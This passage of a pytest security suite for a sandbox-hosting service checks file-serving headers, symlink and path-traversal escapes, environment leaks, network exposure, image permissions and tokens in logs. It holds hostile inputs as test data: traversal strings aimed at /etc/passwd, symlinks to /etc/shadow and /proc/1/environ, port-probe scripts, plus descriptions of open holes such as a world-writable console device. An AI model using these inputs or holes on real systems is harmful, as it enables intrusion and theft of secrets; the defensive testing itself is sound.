    """Every answer of the canvas's file route (HTML, SVG, no extension, a directory, a miss)
    carries the CSP sandbox and nosniff: none is ever a document of e2a's origin."""
    vm = canvas_sb.vm_id
    alice.files.write(vm, "/home/user/canvas/x.svg",
                      b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>')
    alice.files.write(vm, "/home/user/canvas/noext", b"<script>1</script>")
    alice.files.write(vm, "/home/user/canvas/sub/index.html", b"<p>sub")
    view = canvas_url(server, keys, vm)
    for path in ("files/index.html", "files/x.svg", "files/noext", "files/sub/", "files/",
                 "files/missing.html", "files/sub"):
        r = httpx.get(view + path, timeout=30)
        assert r.status_code in (200, 404), (path, r.status_code)
        csp = r.headers.get("content-security-policy", "")
        assert csp.startswith("sandbox") and "allow-same-origin" not in csp, (path, csp)
        assert r.headers.get("x-content-type-options") == "nosniff", path


def test_canvas_symlinks_reach_nothing_user_may_not_read(server, keys, alice, canvas_sb):
    """Symlinks (and a hard link attempt) in the canvas to envd's /proc entries, root's files
    and /etc/shadow: the view link serves none of them."""
    vm = canvas_sb.vm_id
    alice.run(vm, "echo root-secret > /root/secret && chmod 600 /root/secret", user="root")
    alice.run(vm, "cd /home/user/canvas && ln -sfn /proc/1/environ env && "
                  "ln -sfn /proc/1/root/root/secret sec1 && ln -sfn /root/secret sec2 && "
                  "ln -sfn /etc/shadow shadow && ln -sfn /proc/self/environ self && "
                  "ln -sfn /proc/1/cmdline cmd && ln -sfn /proc/1 p1")
    view = canvas_url(server, keys, vm)
    _, token = envd_launch(server, vm)
    for name in ("env", "sec1", "sec2", "shadow", "self", "cmd", "p1/environ", "p1/cmdline"):
        r = httpx.get(view + "files/" + name, timeout=30)
        assert r.status_code in (403, 404), (name, r.status_code, r.content[:100])
        assert b"root-secret" not in r.content and token.encode() not in r.content


@pytest.mark.parametrize("path", ["..", "../x", "a/../../x", "/../../etc/passwd/..",
                                  "./../../etc/passwd", "a/b/../../../etc/passwd",
                                  "x\x00/../../etc/passwd", "....//....//etc/passwd",
                                  "%2e%2e/%2e%2e/etc/passwd"])
def test_canvas_file_paths_stay_in_the_canvas(server, keys, alice, canvas_sb, path):
    """Through the token route and through a render's `path`: nothing outside the canvas."""
    view = canvas_url(server, keys, canvas_sb.vm_id)
    r = httpx.get(view + "files/" + path.replace("\x00", "%00"), timeout=30)
    assert r.status_code in (307, 400, 404), (path, r.status_code)
    assert b"root:" not in r.content
    r = httpx.post(f"{server.url}/v1/sandboxes/{canvas_sb.vm_id}/canvas/render",
                   headers=auth(keys["alice"]), json={"path": path, "width": 64, "height": 64},
                   timeout=120)
    # 400: refused; 422: Chromium found no such file in the canvas. Never a picture.
    assert r.status_code in (400, 422), (path, r.status_code, r.text[:200])


# ---- what sandbox code and the host can see --------------------------------------------------

def test_envds_own_settings_are_not_in_any_sandbox_process(alice, cua_sb, browser_sb):
    """No E2A_* variable in any command or service of a template sandbox, as `user` or root
    (looked for in each process's environ). Was a HOLE when first seen: envd dropped
    E2A_ENVD_TOKEN and E2A_ENVD_SERVICES but not E2A_ENVD_DISPLAY, so every command, PTY and
    service of a cua sandbox had it; since fixed (buildEnv drops every E2A_ENVD_* name)."""
    for sb in (cua_sb, browser_sb):
        for user in ("user", "root"):
            r = alice.run(sb.vm_id, "env; for f in /proc/[0-9]*/environ; do "
                          "tr '\\0' '\\n' < $f 2>/dev/null; done", user=user)
            leaked = sorted({line.split("=", 1)[0] for line in r.stdout.splitlines()
                             if line.startswith("E2A_")})
            assert leaked == [], (sb.template, user, leaked)


def test_sandbox_services_listen_on_loopback_only(server, alice, browser_sb, cua_sb, sandbox):
    """Chromium's DevTools and both x11vnc servers are reachable neither from the host (as an
    unprivileged user) nor from another sandbox."""
    b_ip = envd_launch(server, browser_sb.vm_id)[0].split(":")[0]
    d_ip = envd_launch(server, cua_sb.vm_id)[0].split(":")[0]
    targets = [(b_ip, 9222), (d_ip, 5900), (d_ip, 5901), (d_ip, 9222)]
    probe = ("import socket, sys\nfor t in sys.argv[1:]:\n    h, p = t.split(':')\n    try:\n"
             "        socket.create_connection((h, int(p)), timeout=3); print(t, 'open')\n"
             "    except OSError as e: print(t, 'closed')\n")
    args = [f"{h}:{p}" for h, p in targets]
    out = as_user(NOBODY, "/usr/bin/python3", "-c", probe, *args).stdout
    assert "open" not in out, out
    alice.files.write(sandbox.vm_id, "/tmp/probe.py", probe.encode())
    out = alice.run(sandbox.vm_id, "python3 /tmp/probe.py " + " ".join(args), timeout=60).stdout
    assert "open" not in out and out.count("closed") == len(args), out


def test_local_host_users_cannot_connect_to_sandboxes(server, alice, browser_sb):
    """HOLE: the sandboxes' addresses are routed on the host and the nftables table filters
    only what sandboxes send (input/forward), not what host processes send them: any local
    user (here nobody) connects straight to every port a sandbox listens on, an agent's
    dev server included, without the API key the port proxy requires, and to envd's port
    (signed requests only, but open to connection floods). Should: an output rule that lets
    only e2a's own traffic reach the sandboxes' links (e.g. `oifname "<instance>-*" meta
    skuid != 0 drop`, or match e2a's cgroup), so the authenticated proxy is the only way in."""
    vm = browser_sb.vm_id
    alice.run_background(vm, "python3 -m http.server 8123 --bind 0.0.0.0")
    wait_for(lambda: "8123" in alice.run(vm, "ss -ltn").stdout, timeout=30)
    ip = envd_launch(server, vm)[0].split(":")[0]
    probe = ("import socket, sys\nfor p in sys.argv[2:]:\n    try:\n"
             "        s = socket.create_connection((sys.argv[1], int(p)), timeout=3)\n"
             "        s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); print(p, s.recv(12))\n"
             "    except OSError as e: print(p, 'refused')\n")
    out = as_user(NOBODY, "/usr/bin/python3", "-c", probe, ip, "8123", str(ENVD_PORT)).stdout
    assert "HTTP" not in out, out


def test_template_images_are_not_writable_by_local_users(server):
    """HOLE: the image cache (/var/cache/e2a/templates/<image>/rootfs, the read-only lower
    layer of every sandbox's overlay) is traversable by everyone and holds, as debootstrap
    left them: world-writable /tmp, /var/tmp and /run/lock (a file a local user puts in
    rootfs/var/tmp appears in every running and future sandbox of that image), device nodes
    on the host's own file system (rootfs/dev/console is crw-rw-rw- 5,1: any local user
    opens the host's console read-write, while /dev/console itself is 0600; with
    dev.tty.legacy_tiocsti=1 that is input injection into a root console session), and
    /home/user owned by uid 1000 (SANDBOX_UID), which on most hosts is the first human
    account (here `cloudsdk`): that user can rewrite .profile/.bashrc, or plant
    ~/.fluxbox/init or a Chromium profile, in every tenant's sandbox. Should: the cache
    directory (or each image directory) is 0700 root, device nodes are removed from the
    images after the build (runsc provides /dev), and the cache is on a nodev mount."""
    cache = Path(server.env().get("E2A_CACHE_DIR", "/var/cache/e2a"))
    images = cache / "templates"
    assert images.is_dir()
    for uid in (NOBODY, SANDBOX_UID):
        r = as_user(uid, "find", str(images), "-xdev", "!", "-type", "l",
                    "(", "-writable", "-o", "-type", "c", "-readable", ")", "-print")
        found = r.stdout.split()
        assert found == [], f"uid {uid} may write or open {len(found)} entries: {found[:12]}"


def test_host_users_reach_nothing_under_the_data_and_run_dirs(server, alice, browser_sb, cua_sb):
    """Each sandbox's files sit on the host owned by uid 1000 (its `user`), which is a real
    account on many hosts: neither that uid nor nobody reads or writes anything of e2a's data
    or run directories (keys, database, logs, the sandboxes' upper layers and X sockets)."""
    alice.files.write(browser_sb.vm_id, "/home/user/tenant-secret.txt", b"tenant data")
    for uid in (NOBODY, SANDBOX_UID):
        r = as_user(uid, "find", str(server.base / "data"), str(server.run_dir), "-xdev",
                    "!", "-type", "l", "(", "-readable", "-o", "-writable", ")", "-print")
        found = r.stdout.split()
        assert found == [], f"uid {uid} reaches {found[:12]}"


def test_server_log_holds_no_access_token(server, keys, browser_sb, cua_sb):
    """HOLE: uvicorn logs every WebSocket handshake at INFO on the `uvicorn.error` logger
    ('127.0.0.1:43866 - "WebSocket /v1/browser/<token>" [accepted]'), whatever access_log
    says, so the server log holds every CDP token (driving the browser as `user`, valid for
    the sandbox's life) and every live-view token with mode=control. `make up` writes that log
    to /var/log/e2a.log with the shell's umask, 0644: any local user reads them. Should: the
    token paths never reach a log (a logging filter on uvicorn.error that masks
    /v1/(browser|desktop|canvas)/<token>, or that handshake line dropped), and the log file
    created 0600."""
    cdp = cdp_url(server, keys, browser_sb.vm_id)
    with ws_client.connect(cdp, open_timeout=30, max_size=None) as c:
        c.send(json.dumps({"id": 1, "method": "Browser.getVersion"}))
        c.recv(timeout=30)
    view = stream_url(server, keys, cua_sb.vm_id, view_only=False)
    RFB(view.replace("http://", "ws://", 1) + "vnc?mode=view").close()
    httpx.get(view, timeout=30)
    time.sleep(1)
    log = (server.base / "server.log").read_text(errors="replace")
    for tok in (token_of(cdp), token_of(view)):
        assert tok not in log and tok.split(".")[1] not in log, "a token is in the server log"
    for key in keys.values():
        assert key not in log
